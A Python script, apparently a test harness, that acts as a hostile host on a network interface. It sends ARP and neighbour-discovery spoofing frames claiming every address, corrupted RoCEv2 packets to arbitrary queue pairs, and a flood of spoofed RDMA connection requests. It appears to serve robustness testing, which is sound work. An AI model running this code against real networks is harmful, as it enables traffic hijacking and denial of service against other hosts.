#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A hostile host: spoof.py WAY SECONDS SEED sends frames at eth0 in the names of others.

  arp    ARP requests and answers in which all addresses are at its MAC address
  nd     the same by neighbour discovery, with queries for all groups
  roce   RoCEv2 packets to any QP, whole and damaged
  req    connection requests from thousands of addresses, of which none is confirmed
"""

import random
import socket
import struct
import sys
import time
import zlib

from limit import let_run

MAC = bytes.fromhex("02000000beef")
ALL = b"\xff" * 6
NET4 = bytes([192, 0, 2])
NET6 = bytes.fromhex("20010db8") + bytes(11)
CM_PORT = 7472  # of a program that accepts slowly
FRAMES_S = 5000  # fewer than fill a ring of 1024 frames while the daemon waits for a core
BURST_S = 0.004


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def arp(chance):
    claimed = NET4 + bytes([chance.choice((2, 2, chance.randrange(3, 255)))])
    operation = chance.choice((1, 2))
    return ALL + MAC + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation) + MAC + \
        claimed + bytes(6) + NET4 + b"\1"


def nd(chance):
    claimed = NET6 + bytes([chance.choice((2, 2, chance.randrange(3, 255)))])
    target = NET6 + b"\1"
    if chance.random() < 0.3:  # MLD: a general query
        target = bytes.fromhex("ff02" + "00" * 13 + "01")
        claimed = bytes.fromhex("fe80" + "00" * 13) + bytes([chance.randrange(1, 255)])
        body = struct.pack(">BBHHH16sBBH", 130, 0, 0, 1, 0, bytes(16), 2, 1, 0)
        hops, option = 1, bytes.fromhex("3a00050200000100")
    else:
        kind = chance.choice((135, 136))
        flags = 0 if kind == 135 else 0x60000000
        about = target if kind == 135 else claimed
        body = struct.pack(">BBHI16sBB6s", kind, 0, 0, flags, about, 1 if kind == 135 else 2, 1, MAC)
        hops, option = 255, b""
    pseudo = claimed + target + struct.pack(">II", len(body), 58)
    body = body[:2] + struct.pack(">H", checksum(pseudo + body)) + body[4:]
    return ALL + MAC + struct.pack(">HIHBB", 0x86DD, 0x60000000, len(option) + len(body),
                                   0 if option else 58, hops) + claimed + target + option + body


def ipv4_frame(source, payload, port=0xC000):
    """Returns a RoCEv2 frame to the first host; the payload begins with the BTH."""
    udp = struct.pack(">HHHH", port, 4791, 8 + len(payload) + 4, 0)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload) + 4, 0, 0x4000, 64, 17, 0,
                       NET4 + bytes([source]), NET4 + b"\1")
    masked = bytearray(head + udp + payload)
    for at in (1, 8, 10, 11, 26, 27, 32):
        masked[at] = 0xFF
    icrc = struct.pack("<I", zlib.crc32(ALL + b"\xff\xff" + bytes(masked)))
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return MAC + struct.pack(">H", 0x0800) + head + udp + payload + icrc


def bth(opcode, qpn, psn, flags=0):
    return struct.pack(">BBHII", opcode, flags, 0xFFFF, qpn, psn)


def roce(chance):
    opcode = chance.choice((0x04, 0x0A, 0x0C, 0x11, 0x24, 0x64, chance.randrange(256)))
    frame = bytearray(ipv4_frame(2, bth(opcode, chance.getrandbits(24), chance.getrandbits(24)) +
                                 chance.randbytes(4 * chance.randrange(64))))
    if chance.random() < 0.5:
        frame[chance.randrange(8, len(frame))] ^= 1 + chance.randrange(255)
    return ALL[:0] + bytes(frame)


def req(chance):
    source = chance.randrange(3, 255)
    mad = bytearray(256)
    struct.pack_into(">BBBBHHQH", mad, 0, 1, 7, 2, 3, 0, 0, chance.getrandbits(64), 0x10)
    gids = bytes(10) + b"\xff\xff"
    body = memoryview(mad)[24:]
    # Not the port of the correct clients: their program accepts one connection after the other, and
    # would wait as long for the RTU as the request says.
    port = chance.choice((CM_PORT, chance.randrange(8192, 65536)))
    struct.pack_into(">I4xQQ", body, 0, chance.randrange(1, 1 << 32), 0x01060000 | port,
                     chance.getrandbits(64))
    struct.pack_into(">I", body, 32, chance.randrange(2, 1 << 24) << 8 | 1)
    body[39], body[43], body[47] = 1, 20 << 3, 20 << 3 | 7
    struct.pack_into(">I", body, 44, chance.getrandbits(24) << 8 | 20 << 3 | 7)
    struct.pack_into(">HBB", body, 48, 0xFFFF, 3 << 4 | 7, 15 << 4)
    struct.pack_into(">HH16s16s", body, 52, 0xFFFF, 0xFFFF, gids + NET4 + bytes([source]),
                     gids + NET4 + b"\1")
    body[93], body[94], body[95] = 64, 8, 19 << 3
    struct.pack_into(">BBH16s16s", body, 140, 0, 0x40, port, bytes(12) + NET4 + bytes([source]),
                     bytes(12) + NET4 + b"\1")
    deth = struct.pack(">II", 0x80010000, 1)
    return ipv4_frame(source, bth(0x64, 1, chance.getrandbits(24)) + deth + bytes(mad))


def victim_mac(wire):
    """Asks for the MAC address of the first host, as any host may."""
    ask = ALL + MAC + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + MAC + NET4 + b"\x63" + \
        bytes(6) + NET4 + b"\1"
    wire.settimeout(1)
    for _ in range(20):
        wire.send(ask)
        try:
            answer = wire.recv(2048)
            while answer[12:14] != b"\x08\x06" or answer[28:32] != NET4 + b"\1":
                answer = wire.recv(2048)
            return answer[6:12]
        except TimeoutError:
            pass
    raise SystemExit("no answer to ARP")


def main():
    way, seconds, seed = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
    build = {"arp": arp, "nd": nd, "roce": roce, "req": req}[way]
    chance = random.Random(seed)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind(("eth0", 0))
    mac = victim_mac(wire)
    frames = [build(chance) for _ in range(4096)]
    if way in ("roce", "req"):
        frames = [mac + frame for frame in frames]
    # Building the frames takes a core for some milliseconds, at the priority of the correct clients.
    # The attack begins afterwards, when the test says so.
    print("ready", flush=True)
    sys.stdin.readline()
    sent, begin = 0, time.monotonic()
    while (now := time.monotonic()) < begin + seconds:
        # This process sends no burst for the time in which it did not run.
        for _ in range(int(FRAMES_S * BURST_S)):
            try:
                wire.send(frames[sent % len(frames)])
                sent += 1
            except OSError:  # the queue of the device is full
                pass
        let_run(max(0, BURST_S - (time.monotonic() - now)))
    print("frames %d" % sent)


if __name__ == "__main__":
    main()
